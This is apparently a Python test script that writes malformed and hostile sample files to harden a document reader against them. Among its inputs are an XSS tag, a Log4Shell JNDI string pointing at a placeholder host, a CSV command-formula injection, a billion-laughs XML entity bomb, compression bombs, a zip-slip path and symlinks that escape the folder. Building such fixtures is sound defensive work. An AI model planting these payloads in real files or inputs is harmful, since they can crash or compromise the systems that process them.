"""A hundred files that somebody sends to break a reader, and ten articles among them. ``python tests/hostile_files.py
FOLDER`` writes them into a folder, to be looked at."""

from __future__ import annotations

import gzip
import io
import os
import socket
import sys
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from itertools import pairwise
from pathlib import Path

import sample_formats as sample

PROSE = sample.PARAGRAPHS[0]
FOREIGN = {
    "es": "El presidente de México pidió a Washington que levante el bloqueo a Cuba y anunció nueva ayuda.",
    "fr": "Le président français a rencontré le chancelier allemand à Berlin pour parler de la guerre en Europe.",
    "ru": "Президент России встретился с министром обороны в Москве и обсудил с ним новый закон о службе.",
    "zh": "中国国家主席周一在北京会见了美国总统，双方讨论了贸易问题。",
    "de": "Der Kanzler hat am Montag in Berlin den Präsidenten der Ukraine getroffen und Hilfe angekündigt.",
}
WORD = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'


def good() -> Mapping[str, bytes]:
    """Ten articles, in names and with words that are meant to look like something else."""
    hostile = "<script>alert(1)</script> {{7*7}} ${jndi:ldap://x.example/a} =cmd|'/c calc'!A1 \x1b[31m \u202e"
    return {
        "good/a.txt": f"{PROSE}\n\n{hostile}\n".encode(),
        "good/b.md": sample.markdown(),
        "good/c.html": sample.page(),
        "good/d.pdf": sample.pdf(),
        "good/e.docx": sample.word(),
        "good/f.eml": sample.mail(),
        "good/g.mhtml": sample.saved_page(),
        'good/h "quoted" <b>.txt': PROSE.encode(),
        "good/i\nsecond line.txt": PROSE.encode(),
        "good/j.jsonl.gz": gzip.compress(sample.json_lines()),
    }


def bad() -> Mapping[str, bytes]:
    """A hundred files, none of which holds an article that can be read."""
    return dict(_bad())


def _bad() -> Iterator[tuple[str, bytes]]:
    for format in ("txt", "md", "html", "htm", "pdf", "docx", "eml", "mhtml", "mht", "jsonl", "csv"):
        yield f"empty/a.{format}", b""
        yield f"blank/a.{format}", b" \r\n\t\n"
        yield f"packed/truncated.{format}.gz", gzip.compress(PROSE.encode() * 9)[:30]
        yield f"packed/none.{format}.gz", PROSE.encode()
        if format not in ("jsonl", "csv"):
            yield f"picture/a.{format}", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20
    for format in ("txt", "html", "jsonl", "csv"):
        yield f"bomb/a.{format}.gz", gzip.compress(b"text " + b" " * 60_000_000)
    yield from _texts()
    yield from _pages()
    yield from _papers()
    yield from _tables()


def _texts() -> Iterator[tuple[str, bytes]]:
    for language, text in FOREIGN.items():
        yield f"foreign/{language}.txt", text.encode()
    yield "text/line.txt", b"a" * 200_000_000
    yield "text/long.txt", (PROSE + "\n").encode() * 1300
    yield "text/tokens.txt", b". " * 60_000
    yield "text/nul.txt", PROSE.encode() + b"\0"
    yield "text/utf16.txt", b"\xff\xfea\0\0\xd8b\0"
    yield "text/utf32.txt", b"\xff\xfe\0\0a\0"
    yield 'text/a "quote", <b> and\nline \x1b[31m.txt', b""
    front = {
        "open": "title: A\n",
        "twice": "title: A\ntitle: B\n---\n",
        "date": "date: 01/02/2026\n---\n",
        "list": "title: [A]\n---\n",
        "deep": "title: " + "[" * 5000 + "\n---\n",
        "anchors": "a: &a [x, x]\n" + "".join(f"{b}: &{b} [*{a}, *{a}]\n" for a, b in pairwise("abcdefghi")) + "---\n",
        "colon": "title: A: b\n---\n",
        "control": "title: \x07\n---\n",
    }  # fmt: skip
    for name, text in front.items():
        yield f"front/{name}.md", f"---\n{text}{PROSE}".encode()


def _pages() -> Iterator[tuple[str, bytes]]:
    yield "page/deep.html", ("<div>" * 100_000 + PROSE + "</div>" * 100_000).encode()
    yield "page/tables.html", ("<table><tr><td>" * 30_000 + PROSE).encode()
    yield "page/attributes.html", ("<p " + " ".join(f"a{n}=x" for n in range(200_000)) + f">{PROSE}").encode()
    yield "page/brackets.html", b"<" * 3_000_000
    yield "page/scripts.html", b"<script>" * 300_000
    yield "page/navigation.html", b"<nav><ul>" + b"<li><a href=/>Cuba attacked Peru</a>" * 50 + b"</ul></nav>"
    yield "page/nul.html", b"<p>\0" + PROSE.encode()
    yield "page/one_word.html", b"<p>" + b"a" * 15_000_000
    deep = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(20_000))
    yield "mail/deep.eml", deep + b"Content-Type: text/plain\n\n" + PROSE.encode()
    yield "mail/deep.mhtml", deep + b"Content-Type: text/html\n\n<p>" + PROSE.encode()
    yield "mail/picture.eml", b"Subject: a\nContent-Type: image/png\n\nx"
    yield "mail/header.eml", b"Subject: " + b"=?utf-8?q?a?= " * 300_000 + b"\n\n"
    yield "mail/none.mhtml", b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n\nx\n--x--"
    yield "mail/no_boundary.mhtml", b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n--x\n\nx"


def word_with(document: bytes) -> bytes:
    """A Word file with another main part."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sample.word())) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, document if name == "word/document.xml" else old.read(name))
    return file.getvalue()


def entities() -> bytes:
    """The billion laughs, as the main part of a Word file."""
    levels = b"".join(b"<!ENTITY a%d '%s'>" % (level + 1, b"&a%d;" % level * 10) for level in range(9))
    return b"<!DOCTYPE a [<!ENTITY a0 'ha'>%s]>%s<w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>" % (
        levels, WORD,
    )  # fmt: skip


def pdf_drawing(drawn: bytes) -> bytes:
    """A PDF of one page that draws these packed bytes."""
    made = sample.pdf_of([["x"]])
    start = made.index(b"4 0 obj")
    end = made.index(b"endobj", start)
    head = b"4 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(drawn)
    return made[:start] + head + drawn + b"\nendstream\n" + made[end:]


def _papers() -> Iterator[tuple[str, bytes]]:
    yield "word/bomb.docx", word_with(b"<a>" + b" " * 120_000_000 + b"</a>")
    yield "word/entities.docx", word_with(entities())
    yield "word/deep.docx", word_with(WORD + b"<w:tbl><w:tr><w:tc>" * 30_000)
    yield "word/no_xml.docx", word_with(b"no XML")
    yield "word/zip.docx", b"PK\3\4" + bytes(50)
    yield "word/old.docx", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("../../escape.txt", PROSE)
    yield "word/escape.docx", file.getvalue()
    whole = sample.pdf()
    yield "pdf/garbage.pdf", b"%PDF-1.4 garbage"
    yield "pdf/half.pdf", whole[:300]
    yield "pdf/no_text.pdf", sample.pdf_of([[]])
    yield "pdf/loop.pdf", whole.replace(b"/Kids [5 0 R", b"/Kids [2 0 R")
    yield "pdf/bomb.pdf", pdf_drawing(zlib.compress(b" " * 300_000_000))
    yield "pdf/nonsense.pdf", pdf_drawing(zlib.compress(b"BT ((((((" * 1000))
    yield "pdf/locked.pdf", whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Standard /V 9 /R 9 >>")


def _tables() -> Iterator[tuple[str, bytes]]:
    yield "table/line.jsonl", b'{"text": "' + b"a" * 200_000_000 + b'"}'
    yield "table/deep.jsonl", b'{"text": ' + b"[" * 1_000_000
    yield "table/list.jsonl", b'["text"]'
    yield "table/none.jsonl", b'{"title": "A"}'
    yield "table/number.jsonl", b'{"text": ' + b"9" * 6000 + b"}"
    yield "table/not.jsonl", b"text"
    yield "table/nul.jsonl", b"\0" * 1000
    yield "table/none.csv", b"a,b\n1,2\n3,4\n"
    yield "table/quote.csv", b'text\n"Cuba said.' + b"\nmore" * 5_000_000
    yield "table/formula.csv", b"=cmd|'/c calc'!A1,b\n1,2\n"


def write(folder: Path) -> None:
    """All of them, and what is no file: pipes, sockets, links that lead nowhere, in a circle and out of the folder."""
    for name, data in {**good(), **bad()}.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    outside = folder.parent / "outside.txt"
    outside.write_text(PROSE, encoding="utf-8")
    special = folder / "special"
    special.mkdir()
    (special / "out.txt").symlink_to(outside)
    (special / "nowhere.txt").symlink_to(special / "nothing")
    (special / "circle.txt").symlink_to(special / "circle.txt")
    (special / "folder").symlink_to(folder.parent, target_is_directory=True)
    os.mkfifo(special / "pipe.txt")
    os.mkfifo(special / "pipe.jsonl")
    # The path of a socket must be short.
    here = os.getcwd()
    os.chdir(special)
    try:
        with socket.socket(socket.AF_UNIX) as ears:
            ears.bind("socket.txt")
    finally:
        os.chdir(here)
    (special / os.fsdecode(b"caf\xe9.txt")).write_bytes(PROSE.encode())


SPECIAL = ("out.txt", "nowhere.txt", "circle.txt", "pipe.txt", "pipe.jsonl", "socket.txt", "caf\\xe9.txt")
"""What ``write`` puts into special/ and cannot be read."""

if __name__ == "__main__":
    write(Path(sys.argv[1]))
